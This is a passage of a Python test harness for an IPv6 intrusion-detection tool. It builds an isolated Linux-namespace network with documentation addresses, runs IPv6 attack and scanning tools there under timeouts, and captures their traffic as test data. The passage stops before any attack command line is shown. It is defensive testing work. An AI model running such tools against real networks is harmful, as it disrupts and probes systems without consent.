"""A network-namespace lab that runs real IPv6 attack tools and records their traffic.

Owns building a small IPv6 network out of Linux network namespaces (a hub-mode LAN
bridge, routers running radvd, SLAAC hosts, an on-link attacker, and a WAN bridge
with an off-link attacker behind router r1), running each scenario's tool under
``timeout``, capturing with tcpdump inside the switch namespace, and tearing all of
it down again, even after a crash. It also owns the scenario list: which tool runs
with which command line, which alert categories each capture is expected to raise,
and which frames prove the tool really sent something; those frames are counted by
a deliberately tiny parser of its own (``read_frames``), so the proof that a tool
sent its packets does not rest on the decoder under test. CLI::

    python -m tests.netlab record OUTDIR [scenario ...]
    python -m tests.netlab list

Every scenario writes its LAN capture (br0, "inside") to ``OUTDIR/<scenario>.pcap``.
The routed scenarios, where a2 scans or talks to the LAN's /64 from the WAN through
r1, also write the WAN capture (br1, "outside", between a2 and r1) to
``OUTDIR/<scenario>.outside.pcap`` and both merged in time order, as a sensor on a
port mirroring both of r1's legs would see them, to ``OUTDIR/<scenario>.span.pcap``;
each capture has its own expected alerts and evidence (``Scenario.captures``).

It does not run v6sentry or judge alerts (``tests/test_attack_tools.py`` does), and
it never touches the root namespace's interfaces, routes or sysctls: every link,
address, route, qdisc and sysctl it sets lives in a namespace it created (it only
reads the kernel-wide neighbour-table count, ``neighbour_entries``). Only
documentation address space is used (2001:db8::/32, and 192.0.2.0/24 as scan6's and
masscan's IPv4 arguments) and no route leads out of the lab. Needs root, iproute2,
tcpdump, radvd, thc-ipv6, ipv6toolkit, nmap and masscan.
"""

from __future__ import annotations

import argparse
import atexit
import contextlib
import ipaddress
import itertools
import json
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType
from typing import Final

NS_PREFIX: Final = "v6s-"
LAN_PREFIX: Final = "2001:db8:1::/64"
RDNSS: Final = "2001:db8:1::53"
R1_WAN_ADDRESS: Final = "2001:db8:ff::1"
CAPTURE_CAP: Final = 200_000  # tcpdump -c: a runaway flood cannot fill the disk
SETTLE: Final = 1.0  # seconds of live, quiet network (after SLAAC) before an attack
FLOOD: Final = 2.0  # seconds a flooding tool runs

# Capture points. "inside" is the LAN (br0), the capture every scenario has; "outside" is
# the WAN (br1) between the off-link attacker a2 and r1; "span" is both merged by time,
# what a sensor on a port mirroring both of r1's legs would see.
INSIDE, OUTSIDE, SPAN = "inside", "outside", "span"
BRIDGES: Final = {INSIDE: "br0", OUTSIDE: "br1"}
PCAP_SUFFIX: Final = {INSIDE: ".pcap", OUTSIDE: ".outside.pcap", SPAN: ".span.pcap"}

# Binaries the lab itself needs; each scenario names its own tools on top.
LAB_BINARIES: Final = ("ip", "tc", "sysctl", "tcpdump", "radvd", "timeout")

ICMP_ECHO, ICMP_RS, ICMP_RA, ICMP_NS, ICMP_NA = 128, 133, 134, 135, 136
ICMP_ECHO_REPLY = 129
NH_UDP = 17
NH_FRAGMENT, NH_ICMPV6 = 44, 58
_EXT_HEADERS: Final = frozenset({0, 43, 60, 135, 139, 140, 253, 254})


@dataclass(frozen=True)
class NodeSpec:
    """One interface of a lab node: its namespace name, MAC, link-local and role."""

    name: str
    mac: str
    link_local: str
    role: str  # "router", "host" or "attacker"
    segment: str = "lan"  # "lan" (bridge br0, captured) or "wan" (bridge br1, not captured)
    addresses: tuple[str, ...] = ()  # static /64 addresses, added without DAD


R1: Final = NodeSpec("r1", "02:00:00:00:01:01", "fe80::1", "router", addresses=("2001:db8:1::1",))
R2: Final = NodeSpec("r2", "02:00:00:00:01:02", "fe80::2", "router", addresses=("2001:db8:1::2",))
R1_WAN: Final = NodeSpec(
    "r1", "02:00:00:00:ff:01", "fe80::ff:1", "router", "wan", (R1_WAN_ADDRESS,)
)
H1: Final = NodeSpec("h1", "02:00:00:00:02:01", "fe80::2:1", "host")
H2: Final = NodeSpec("h2", "02:00:00:00:02:02", "fe80::2:2", "host")
A1: Final = NodeSpec("a1", "02:00:00:00:0a:01", "fe80::a:1", "attacker")
A2: Final = NodeSpec("a2", "02:00:00:00:0a:02", "fe80::a:2", "attacker", "wan", ("2001:db8:ff::a",))
# A VirtualBox guest (IEEE OUI 08:00:27) on the LAN, for the scans that guess EUI-64
# addresses from vendor OUIs; only in the routed scenarios.
V1: Final = NodeSpec("v1", "08:00:27:00:00:3c", "fe80::a00:27ff:fe00:3c", "host")
# Every MAC a legitimate LAN node sends from; anything else on br0 is a tool's doing.
LAB_MACS: Final = frozenset(n.mac for n in (R1, R2, H1, H2, V1))


def slaac_address(mac: str) -> str:
    """The EUI-64 SLAAC address a host with ``mac`` forms in the LAN prefix."""
    b = bytes.fromhex(mac.replace(":", ""))
    iid = bytes([b[0] ^ 0x02, b[1], b[2], 0xFF, 0xFE, b[3], b[4], b[5]])
    return str(ipaddress.IPv6Network(LAN_PREFIX)[int.from_bytes(iid, "big")])


H1_GLOBAL: Final = slaac_address(H1.mac)
H2_GLOBAL: Final = slaac_address(H2.mac)
V1_GLOBAL: Final = slaac_address(V1.mac)
# The network "behind" a2: r1 routes it to a2 in the routed scenarios, so answers to
# a scanner that randomises its source, or to many clients, cost r1 one neighbour entry.
REMOTE_NET: Final = "2001:db8:fe::/64"
# Listed as dark in tests/netlab_policy.yaml: no host, no route.
DARK_NET: Final = "2001:db8:dead::/48"

# Run in a namespace as `python -c _PING ADDRESS TIMEOUT`; exit 0 on an echo reply.
# iputils ping is not a lab dependency, so a raw ICMPv6 socket sends the echo through
# the node's own kernel stack (the kernel fills in the checksum and resolves the
# neighbour exactly as ping would).
_PING: Final = """
import os, select, socket, sys, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
addr = socket.getaddrinfo(sys.argv[1], None, socket.AF_INET6)[0][4]
ident = os.getpid() & 0xFFFF
s.sendto(bytes([128, 0, 0, 0, ident >> 8, ident & 255, 0, 1]) + b"v6sentry-lab", addr)
end = time.monotonic() + float(sys.argv[2])
while (left := end - time.monotonic()) > 0 and select.select([s], [], [], left)[0]:
    data, _ = s.recvfrom(2048)
    if data[0] == 129 and data[4:6] == bytes([ident >> 8, ident & 255]):
        sys.exit(0)
sys.exit(1)
"""


# -- namespaces outside any lab ---------------------------------------------------


def _ip(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(["ip", *args], capture_output=True, text=True, timeout=30)
    if check and proc.returncode != 0:
        raise RuntimeError(f"ip {' '.join(args)}: {proc.stderr.strip()}")
    return proc


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


def list_namespaces() -> list[str]:
    """Every network namespace ``ip netns`` knows, ours or not."""
    out = _ip("netns", "list", check=False).stdout
    return [line.split()[0] for line in out.splitlines() if line.strip()]


def our_namespaces() -> list[str]:
    """Namespaces named like this module's (``v6s-<pid>-...``), from any run."""
    return [ns for ns in list_namespaces() if ns.startswith(NS_PREFIX)]


def _delete_namespace(ns: str) -> None:
    # Anything still running inside would keep using the links; kill it first.
    for pid in _ip("netns", "pids", ns, check=False).stdout.split():
        with contextlib.suppress(ProcessLookupError, ValueError):
            os.kill(int(pid), signal.SIGKILL)
    _ip("netns", "del", ns, check=False)


def _stale(name: str) -> bool:
    """True for a ``v6s-<pid>-...`` name whose run is over (a crash, since labs clean up)."""
    owner = name[len(NS_PREFIX) :].split("-", 1)[0]
    # A live owner other than us is a concurrent run: leave its lab alone.
    return not (owner.isdigit() and int(owner) != os.getpid() and _alive(int(owner)))


def remove_stale_namespaces() -> list[str]:
    """Delete namespaces (and work dirs) of crashed runs whose pid is gone; return them."""
    removed = [ns for ns in our_namespaces() if _stale(ns)]
    for ns in removed:
        _delete_namespace(ns)
    for workdir in Path(tempfile.gettempdir()).glob(f"{NS_PREFIX}*"):
        owner = workdir.name[len(NS_PREFIX) :].split("-", 1)[0]
        if owner.isdigit() and workdir.is_dir() and _stale(workdir.name):
            shutil.rmtree(workdir, ignore_errors=True)
    return removed


def lab_problems(tools: Sequence[str] = ()) -> list[str]:
    """Why the lab cannot run here (not root, no ``ip netns``, missing binaries); [] if it can."""
    problems = []
    if os.geteuid() != 0:
        problems.append("needs root (network namespaces, raw sockets)")
    missing = [b for b in (*LAB_BINARIES, *tools) if shutil.which(b) is None]
    if missing:
        problems.append(f"missing binaries: {', '.join(sorted(set(missing)))}")
    if not problems:
        probe = f"{NS_PREFIX}{os.getpid()}-probe"
        add = _ip("netns", "add", probe, check=False)
        if add.returncode != 0:
            problems.append(f"cannot create a network namespace: {add.stderr.strip()}")
        else:
            exe = _ip("netns", "exec", probe, "ip", "link", "show", "lo", check=False)
            if exe.returncode != 0:
                problems.append(f"cannot enter a network namespace: {exe.stderr.strip()}")
            _ip("netns", "del", probe, check=False)
    return problems


def neighbour_entries() -> int:
    """Entries in the kernel's IPv6 neighbour table, every namespace's together.

    The table (and its gc_thresh limits) is one for the whole kernel; its statistics are
    only in the root namespace's /proc, which this reads and never writes.
    """
    lines = Path("/proc/net/stat/ndisc_cache").read_text(encoding="ascii").splitlines()
    return int(lines[1].split()[0], 16)


# -- the lab -------------------------------------------------------------------------

_OPEN_LABS: list[Lab] = []
_LAB_IDS = itertools.count()


@atexit.register
def _close_open_labs() -> None:
    for lab in list(_OPEN_LABS):
        lab.close()


@dataclass
class ToolRun:
    """One tool invocation inside the lab and how it ended."""

    node: str
    argv: list[str]
    seconds: float
    returncode: int | None = None
    output: str = ""
    log: Path | None = None
    proc: subprocess.Popen[bytes] | None = field(default=None, repr=False)
    note: str = ""  # why the lab ended the tool before its time, if it did

    @property
    def command(self) -> str:
        return " ".join(self.argv)


class Lab:
    """Namespaces, links, daemons and the capture of one scenario; a context manager.

    Namespaces are ``v6s-<pid>-<n>-<node>``. ``close()`` (also run by ``__exit__`` and
    at interpreter exit) kills every process group the lab started, then deletes every
    namespace it created.
    """

    def __init__(self, workdir: Path, pcap: Path, outside: Path | None = None) -> None:
        self.workdir = workdir
        self.pcap = pcap
        # Capture point -> file; the WAN is captured only when a file is given for it.
        self.pcaps = {INSIDE: pcap} | ({OUTSIDE: outside} if outside is not None else {})
        self.tag = f"{NS_PREFIX}{os.getpid()}-{next(_LAB_IDS)}"
        self.switch = f"{self.tag}-sw"
        self.namespaces: list[str] = []
        self.nodes: dict[str, str] = {}  # node name -> namespace
        self.interfaces: list[tuple[NodeSpec, str]] = []  # (spec, ifname), addresses pending
        self.procs: list[subprocess.Popen[bytes]] = []
        self.tool_runs: list[ToolRun] = []
        self.radvd: dict[str, subprocess.Popen[bytes]] = {}
        self.captures: dict[str, subprocess.Popen[bytes]] = {}  # capture point -> tcpdump
        self.capture_stats: dict[str, str] = {}  # capture point -> tcpdump's closing counts

    # -- lifetime ------------------------------------------------------------------

    def __enter__(self) -> Lab:
        _OPEN_LABS.append(self)
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.close()

    def close(self) -> None:
        """Stop the capture and every process, then delete the namespaces. Idempotent."""
        try:
            if self.captures:
                self.stop_capture()
            for proc in reversed(list(self.procs)):  # _stop removes them
                self._stop(proc, signal.SIGTERM, 2.0)
        finally:
            for ns in reversed(self.namespaces):
                _delete_namespace(ns)
            self.namespaces.clear()
            self.procs.clear()
            if self in _OPEN_LABS:
                _OPEN_LABS.remove(self)

    def _stop(self, proc: subprocess.Popen[bytes], sig: int, grace: float) -> int:
        """Signal the process group, wait up to ``grace`` seconds, then SIGKILL the group.

        The process is then forgotten: once its group is empty its pid may be reused,
        and a later killpg must not reach whoever got it.
        """
        if proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, sig)
            try:
                proc.wait(grace)
            except subprocess.TimeoutExpired:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(proc.pid, signal.SIGKILL)
                proc.wait(10)
        # Children that outlived their leader must not outlive the lab.
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        if proc in self.procs:
            self.procs.remove(proc)
        return proc.returncode

    # -- plumbing --------------------------------------------------------------------

    def _namespace(self, node: str) -> str:
        return self.switch if node == "sw" else self.nodes[node]

    def sh(self, node: str, *argv: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        """Run a short command in ``node``'s namespace (``sw`` = the switch) and wait."""
        proc = subprocess.run(
            ["ip", "netns", "exec", self._namespace(node), *argv],
            capture_output=True,
            text=True,
            timeout=30,
        )
        if check and proc.returncode != 0:
            raise RuntimeError(f"{node}: {' '.join(argv)}: {proc.stderr.strip()}")
        return proc

    def spawn(self, node: str, argv: Sequence[str], log: str) -> subprocess.Popen[bytes]:
        """Start a long-running process in ``node``'s namespace as its own process group."""
        with open(self.workdir / log, "wb") as out:
            proc = subprocess.Popen(
                ["ip", "netns", "exec", self._namespace(node), *argv],
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=subprocess.STDOUT,
                start_new_session=True,  # pgid == pid: one killpg reaches its children too
            )
        self.procs.append(proc)
        return proc

    def sysctl(self, node: str, settings: dict[str, int]) -> None:
        """Set sysctls inside ``node``'s namespace (never the root namespace's)."""
        self.sh(node, "sysctl", "-q", "-w", *(f"{k}={v}" for k, v in settings.items()))

    def _new_namespace(self, name: str) -> str:
        ns = f"{self.tag}-{name}"
        _ip("netns", "add", ns)
        self.namespaces.append(ns)
        _ip("-n", ns, "link", "set", "lo", "up")
        return ns

    # -- topology --------------------------------------------------------------------

    def _build_switch(self) -> None:
        """The switch namespace: hub-mode bridges br0 (LAN, captured) and br1 (WAN)."""
        if self.switch in self.namespaces:
            return
        self._new_namespace("sw")
        # The switch itself must stay silent: no IPv6 on the bridges or their ports.
        self.sysctl(
            "sw", {"net.ipv6.conf.all.disable_ipv6": 1, "net.ipv6.conf.default.disable_ipv6": 1}
        )
        for br in ("br0", "br1"):
            # ageing_time 0: nothing is learned and every frame floods (a hub), so every
            # port and the capture see unicast too; no snooping, no STP forward delay.
            hub = "ageing_time 0 mcast_snooping 0 stp_state 0 forward_delay 0"
            _ip("-n", self.switch, "link", "add", br, "type", "bridge", *hub.split())
            _ip("-n", self.switch, "link", "set", br, "up")

    def add_node(self, spec: NodeSpec, ifname: str = "eth0") -> None:
        """Create ``spec.name``'s namespace (once) and plug ``ifname`` into its bridge.

        The interface comes up with no address at all; ``add_addresses`` adds them
        later, once the capture runs, so DAD and the first MLD reports are recorded.
        """
        self._build_switch()
        if spec.name not in self.nodes:
            self.nodes[spec.name] = self._new_namespace(spec.name)
        ns = self.nodes[spec.name]
        port = f"{spec.segment[0]}-{spec.name}"  # names the switch port after the node
        bridge = "br0" if spec.segment == "lan" else "br1"
        # Created inside the switch namespace with the peer born in the node's, so no
        # interface ever appears in the root namespace, even for a moment.
        veth = f"link add {port} type veth peer name {ifname} netns {ns}"
        _ip("-n", self.switch, *veth.split())
        _ip("-n", self.switch, "link", "set", port, "master", bridge, "up")
        host = spec.role == "host"
        conf = f"net.ipv6.conf.{ifname}"
        settings = {
            f"{conf}.addr_gen_mode": 1,  # no kernel-made link-local: only the ones we add
            f"{conf}.accept_ra": 1 if host else 0,
            f"{conf}.autoconf": 1 if host else 0,
            f"{conf}.accept_dad": 1 if host else 0,
            f"{conf}.dad_transmits": 1,
            f"{conf}.use_tempaddr": 0,  # EUI-64 only: addresses are known in advance
        }
        if spec.role == "router":
            settings["net.ipv6.conf.all.forwarding"] = 1
        self.sysctl(spec.name, settings)
        _ip("-n", ns, "link", "set", "dev", ifname, "address", spec.mac)
        _ip("-n", ns, "link", "set", "dev", ifname, "up")
        self.interfaces.append((spec, ifname))

    def add_addresses(self) -> None:
        """Give every interface its link-local and static addresses.

        Hosts run DAD on their link-local (ordinary DAD traffic in every capture);
        routers and attackers use ``nodad`` so their addresses work at once.
        """
        for spec, ifname in self.interfaces:
            ns = self.nodes[spec.name]
            nodad = [] if spec.role == "host" else ["nodad"]
            _ip("-n", ns, "addr", "add", f"{spec.link_local}/64", "dev", ifname, *nodad)
            for addr in spec.addresses:
                _ip("-n", ns, "addr", "add", f"{addr}/64", "dev", ifname, "nodad")
        self.interfaces.clear()

    # -- capture -----------------------------------------------------------------------

    def start_capture(self) -> None:
        """tcpdump on each captured bridge in the switch namespace: every frame, whole, unbuffered.

        br0 (the LAN, "inside") always; br1 (the WAN, "outside") when the lab has a file for it.
        """
        for point, pcap in self.pcaps.items():
            log = self.workdir / f"tcpdump-{point}.log"
            # --immediate-mode: hand over every frame at once; otherwise frames wait in the
            # kernel ring for up to a second and are lost when SIGINT ends the capture.
            # -Z root: keep writing as root rather than as a "tcpdump" user the file's
            # directory may not admit; -c bounds the file whatever a flood does.
            argv = ["tcpdump", "-i", BRIDGES[point], "-s", "0", "-U", "--immediate-mode", "-n"]
            argv += ["-Z", "root", "-c", str(CAPTURE_CAP), "-w", str(pcap)]
            self.captures[point] = self.spawn("sw", argv, log.name)
        for point, proc in self.captures.items():
            log = self.workdir / f"tcpdump-{point}.log"
            deadline = time.monotonic() + 10
            while "listening on" not in log.read_text(errors="replace"):
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(f"tcpdump did not start: {log.read_text(errors='replace')}")
                time.sleep(0.02)

    def stop_capture(self) -> None:
        """SIGINT so each tcpdump flushes and closes its file, and wait for them to exit."""
        if not self.captures:
            return
        time.sleep(0.3)  # the last frames may still be crossing the bridge
        for point, proc in list(self.captures.items()):
            self._stop(proc, signal.SIGINT, 10.0)
            del self.captures[point]
            # tcpdump's own count: "N packets captured, N received by filter, N dropped by
            # kernel". Drops are expected under a flood, nowhere else.
            log = (self.workdir / f"tcpdump-{point}.log").read_text(errors="replace")
            lines = [line.strip() for line in log.splitlines() if "packets" in line]
            self.capture_stats[point] = ", ".join(lines)

    # -- daemons and hosts -----------------------------------------------------------

    def start_radvd(self, router: str) -> None:
        """radvd in the foreground with its own config, pidfile and log in the work dir."""
        conf = self.workdir / f"radvd-{router}.conf"
        conf.write_text(
            "interface eth0 {\n"
            "    AdvSendAdvert on;\n"
            "    MinRtrAdvInterval 3;\n"
            "    MaxRtrAdvInterval 4;\n"
            f"    prefix {LAN_PREFIX} {{\n"
            "        AdvOnLink on;\n"
            "        AdvAutonomous on;\n"
            "    };\n"
            f"    RDNSS {RDNSS} {{\n"
            "    };\n"
            "};\n",
            encoding="utf-8",
        )
        pidfile = self.workdir / f"radvd-{router}.pid"
        # -u root: stay root rather than switch to a system user the machine may lack;
        # -m stderr: log to our file, never to syslog.
        argv = ["radvd", "-n", "-m", "stderr", "-u", "root", "-C", str(conf), "-p", str(pidfile)]
        self.radvd[router] = self.spawn(router, argv, f"radvd-{router}.log")

    def stop_radvd(self, router: str) -> int:
        """SIGTERM: radvd sends its final RA (router lifetime 0), then exits."""
        return self._stop(self.radvd.pop(router), signal.SIGTERM, 5.0)

    def addresses(self, node: str, *, tentative: bool = False) -> list[str]:
        """The node's IPv6 addresses on eth0; by default only those that finished DAD."""
        out = _ip("-j", "-n", self.nodes[node], "-6", "addr", "show", "dev", "eth0").stdout
        found = []
        for link in json.loads(out or "[]"):
            for info in link.get("addr_info", []):
                if tentative or not (info.get("tentative") or info.get("dadfailed")):
                    found.append(str(ipaddress.IPv6Address(info["local"])))
        return found

    def wait_address(self, node: str, address: str, timeout: float = 8.0) -> None:
        """Wait until ``address`` is configured on the node and DAD has finished."""
        want = str(ipaddress.IPv6Address(address))
        deadline = time.monotonic() + timeout
        while want not in self.addresses(node):
            if time.monotonic() > deadline:
                have = self.addresses(node, tentative=True)
                raise RuntimeError(f"{node}: {want} not ready after {timeout}s (has {have})")
            time.sleep(0.05)

    def add_address(self, node: str, address: str) -> None:
        """Add a /64 address the ordinary way: the kernel runs DAD for it."""
        _ip("-n", self.nodes[node], "addr", "add", f"{address}/64", "dev", "eth0")

    def limit_egress(self, node: str, tbf: str) -> None:
        """A token-bucket qdisc on the node's eth0: the tool may flood, the link may not."""
        self.sh(node, "tc", "qdisc", "add", "dev", "eth0", "root", *tbf.split())

    def sweep_neighbours(self, node: str) -> None:
        """Keep deleting the node's FAILED and NOARP neighbour entries, four times a second.

        A router solicits every address a scan probes; each costs it an entry that turns
        FAILED after 3 s and lives on until the kernel's garbage collection, plus a NOARP
        entry for the solicited-node group. Deleting them changes nothing on the wire (a
        FAILED entry is solicited afresh like a new one) but bounds the shared table by
        the entries still INCOMPLETE: about 4.5 per probe/s of scan rate, not 2 per probe.
        """
        loop = "while :; do ip -6 neigh flush dev eth0 nud failed nud noarp; sleep 0.25; done"
        self.spawn(node, ["sh", "-c", loop], f"sweep-{node}.log")

    def flush_neighbours(self, node: str) -> None:
        _ip("-n", self.nodes[node], "-6", "neigh", "flush", "dev", "eth0")

    def ping(self, node: str, target: str, timeout: float = 1.0) -> bool:
        """One ICMPv6 echo from the node's kernel stack; True if answered."""
        dest = f"{target}%eth0" if target.startswith("fe80") else target
        proc = self.sh(node, sys.executable, "-c", _PING, dest, str(timeout), check=False)
        return proc.returncode == 0

    # -- tools ---------------------------------------------------------------------------

    def start_tool(self, node: str, argv: Sequence[str], seconds: float) -> ToolRun:
        """Start a tool under ``timeout`` (TERM after ``seconds``, KILL 1 s later)."""
        run = ToolRun(node, list(argv), seconds)
        self.tool_runs.append(run)
        run.log = self.workdir / f"tool{len(self.tool_runs)}-{Path(argv[0]).name}.log"
        run.proc = self.spawn(node, ["timeout", "-k", "1", f"{seconds:g}", *argv], run.log.name)
        return run

    def finish(self, run: ToolRun, neighbour_budget: int | None = None) -> ToolRun:
        """Wait for a started tool (``timeout`` bounds the wait) and keep its output.

        With ``neighbour_budget``, the tool is stopped early once the kernel's neighbour
        table (shared by every namespace) holds more entries than that.
        """
        assert run.proc is not None
        try:
            if neighbour_budget is None:
                run.proc.wait(run.seconds + 10)
            else:
                self._watch_neighbours(run.proc, run.seconds + 10, neighbour_budget, run)
        finally:
            self._stop(run.proc, signal.SIGTERM, 1.0)
        run.returncode = run.proc.returncode
        if run.log is not None:
            run.output = run.log.read_text(errors="replace")
        return run

    def run_tool(
        self, node: str, argv: Sequence[str], seconds: float, neighbour_budget: int | None = None
    ) -> ToolRun:
        """Run a tool under ``timeout`` and wait for it (see ``finish``)."""
        return self.finish(self.start_tool(node, argv, seconds), neighbour_budget)

    @staticmethod
    def _watch_neighbours(
        proc: subprocess.Popen[bytes], seconds: float, budget: int, run: ToolRun
    ) -> None:
        """Wait up to ``seconds`` for ``proc``; return early once the table exceeds ``budget``."""
        deadline = time.monotonic() + seconds
        while proc.poll() is None and time.monotonic() < deadline:
            if (entries := neighbour_entries()) > budget:
                # The caller stops the tool; the scenario goes on with what was sent.
                run.note = f"stopped early: {entries} neighbour entries, budget {budget}"
                return
            time.sleep(0.05)


# -- reading the capture back --------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Frame:
    """What the evidence checks need from one captured Ethernet frame."""

    src_mac: str
    src_ip: str  # "" when the frame is not IPv6
    hop_limit: int
    icmp_type: int | None  # None: not ICMPv6, or not visible in this fragment
    ext_headers: tuple[int, ...]  # extension headers seen before the upper layer
    fragment: bool  # carries a Fragment header
    ra_lifetime: int | None  # router lifetime of a visible RA
    dst_ip: str = ""  # "" when the frame is not IPv6
    upper: int | None = None  # upper-layer protocol (6 TCP, 17 UDP, 58 ICMPv6), if visible
    nd_target: str = ""  # target address of a visible NS or NA


def _frame(data: bytes) -> Frame:
    src_mac = data[6:12].hex(":")
    if len(data) < 54 or data[12:14] != b"\x86\xdd":
        return Frame(src_mac, "", 0, None, (), False, None)
    src_ip = socket.inet_ntop(socket.AF_INET6, data[22:38])
    dst_ip = socket.inet_ntop(socket.AF_INET6, data[38:54])
    nh, off, exts, fragment = data[20], 54, [], False
    while nh in _EXT_HEADERS or nh == NH_FRAGMENT:
        if off + 8 > len(data):
            nh = -1
            break
        exts.append(nh)
        if nh == NH_FRAGMENT:
            fragment = True
            later = (data[off + 2] << 8 | data[off + 3]) >> 3 != 0
            nh, off = (-1 if later else data[off]), off + 8
        else:
            nh, off = data[off], off + (data[off + 1] + 1) * 8
    icmp_type = data[off] if nh == NH_ICMPV6 and off + 8 <= len(data) else None
    lifetime = None
    if icmp_type == ICMP_RA:
        lifetime = data[off + 6] << 8 | data[off + 7]
    target = ""
    if icmp_type in (ICMP_NS, ICMP_NA) and off + 24 <= len(data):
        target = socket.inet_ntop(socket.AF_INET6, data[off + 8 : off + 24])
    upper = nh if nh >= 0 else None
    return Frame(
        src_mac, src_ip, data[21], icmp_type, tuple(exts), fragment, lifetime, dst_ip, upper, target
    )


def read_frames(pcap: Path) -> Iterator[Frame]:
    """Every frame of a classic pcap file (what tcpdump -w writes), parsed just enough."""
    data = pcap.read_bytes()
    if len(data) < 24:
        return
    order = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    record = struct.Struct(order + "IIII")
    off = 24
    while off + 16 <= len(data):
        _, _, incl, _ = record.unpack_from(data, off)
        off += 16
        yield _frame(data[off : off + incl])
        off += incl


@dataclass(frozen=True)
class Evidence:
    """At least ``minimum`` frames matching ``match`` prove the tool put its packets on the wire.

    With ``distinct`` it is the number of distinct values of ``distinct(frame)`` among the
    matching frames instead (e.g. the destinations a scanner probed), not of frames.
    """

    what: str
    match: Callable[[Frame], bool]
    minimum: int = 1
    distinct: Callable[[Frame], str] | None = None

    def count(self, frames: Sequence[Frame]) -> int:
        if self.distinct is not None:
            return len({self.distinct(f) for f in frames if self.match(f)})
        return sum(1 for f in frames if self.match(f))


def destination(f: Frame) -> str:
    """``Evidence.distinct`` key: the frame's IPv6 destination."""
    return f.dst_ip


def nd_target(f: Frame) -> str:
    """``Evidence.distinct`` key: the target of an NS or NA."""
    return f.nd_target


def source(f: Frame) -> str:
    """``Evidence.distinct`` key: the frame's IPv6 source."""
    return f.src_ip


def destination_64(f: Frame) -> str:
    """``Evidence.distinct`` key: the /64 of the frame's IPv6 destination."""
    return str(ipaddress.IPv6Network((f.dst_ip, 64), strict=False)) if f.dst_ip else ""


FOREIGN: Final = "foreign"  # as a sender: any MAC that is not a legitimate lab node's


def frames(
    mac: str,
    icmp_type: int | None = None,
    *,
    src_ips: Sequence[str] = (),
    hop_limit: int | None = None,
    ra_lifetime: int | None = None,
    ext_header: int | None = None,
    fragment: bool | None = None,
    src_net: str | None = None,
    dst_net: str | None = None,
    upper: int | None = None,
) -> Callable[[Frame], bool]:
    """A frame filter: sent from ``mac`` (or ``FOREIGN``), and every other condition given."""
    srcs = ipaddress.IPv6Network(src_net) if src_net else None
    dsts = ipaddress.IPv6Network(dst_net) if dst_net else None

    def within(addr: str, net: ipaddress.IPv6Network | None) -> bool:
        return net is None or (addr != "" and ipaddress.IPv6Address(addr) in net)

    def match(f: Frame) -> bool:
        return (
            (f.src_mac not in LAB_MACS if mac == FOREIGN else f.src_mac == mac)
            and (icmp_type is None or f.icmp_type == icmp_type)
            and (not src_ips or f.src_ip in src_ips)
            and (hop_limit is None or f.hop_limit == hop_limit)
            and (ra_lifetime is None or f.ra_lifetime == ra_lifetime)
            and (ext_header is None or ext_header in f.ext_headers)
            and (fragment is None or f.fragment == fragment)
            and (upper is None or f.upper == upper)
            and within(f.src_ip, srcs)
            and within(f.dst_ip, dsts)
        )

    return match


# -- scenarios -----------------------------------------------------------------------


@dataclass(frozen=True)
class Expected:
    """What one capture of a scenario must show: alert categories, signature ids, tool frames."""

    expect: frozenset[str]  # alert categories; empty = the capture must raise none
    evidence: tuple[Evidence, ...]  # frames that prove the scenario's traffic is there
    sids: frozenset[int] = frozenset()  # signature ids that must be among the alerts

    @property
    def benign(self) -> bool:
        return not self.expect


def expected(
    expect: Sequence[str], evidence: Sequence[Evidence], sids: Sequence[int] = ()
) -> Expected:
    """An ``Expected`` from plain sequences, as ``scenario`` takes them."""
    return Expected(frozenset(expect), tuple(evidence), frozenset(sids))


@dataclass(frozen=True)
class Scenario:
    """One recording: what runs, what it needs, and what v6sentry should say about it.

    ``expect``, ``evidence`` and ``lan_sids`` are the LAN ("inside") capture's, which
    every scenario has. A scenario with ``outside`` also captures the WAN, and one with
    ``span`` also gets both captures merged; each has its own expectations.
    """

    name: str
    expect: frozenset[str]  # alert categories; empty = the capture must raise none
    run: Callable[[Lab], None]
    tools: tuple[str, ...]  # binaries beyond LAB_BINARIES
    evidence: tuple[Evidence, ...]  # frames that prove the scenario's traffic is there
    lan_sids: frozenset[int] = frozenset()  # signature ids that must be among the alerts
    outside: Expected | None = None  # the WAN capture (br1), taken only when given
    span: Expected | None = None  # inside and outside merged; needs ``outside``

    @property
    def captures(self) -> dict[str, Expected]:
        """Capture point -> what that capture must show, inside first."""
        out = {INSIDE: Expected(self.expect, self.evidence, self.lan_sids)}
        if self.outside is not None:
            out[OUTSIDE] = self.outside
            if self.span is not None:
                out[SPAN] = self.span
        return out

    @property
    def sids(self) -> frozenset[int]:
        """Every signature id some capture of the scenario must raise: what it pins to
        real traffic."""
        return frozenset().union(*(c.sids for c in self.captures.values()))

    @property
    def benign(self) -> bool:
        """True when no capture of the scenario may raise any alert."""
        return all(c.benign for c in self.captures.values())

    @property
    def doc(self) -> str:
        return (self.run.__doc__ or "").strip()


SCENARIOS: dict[str, Scenario] = {}


def scenario(
    expect: Sequence[str],
    evidence: Sequence[Evidence],
    tools: Sequence[str] = (),
    sids: Sequence[int] = (),
    *,
    outside: Expected | None = None,
    span: Expected | None = None,
) -> Callable[[Callable[[Lab], None]], Callable[[Lab], None]]:
    """Register the decorated function as a scenario named after it, in definition order.

    ``expect``, ``evidence`` and ``sids`` are for the LAN capture; ``outside`` and ``span``
    (see ``expected``) add the WAN capture and the merged one.
    """
    if span is not None and outside is None:
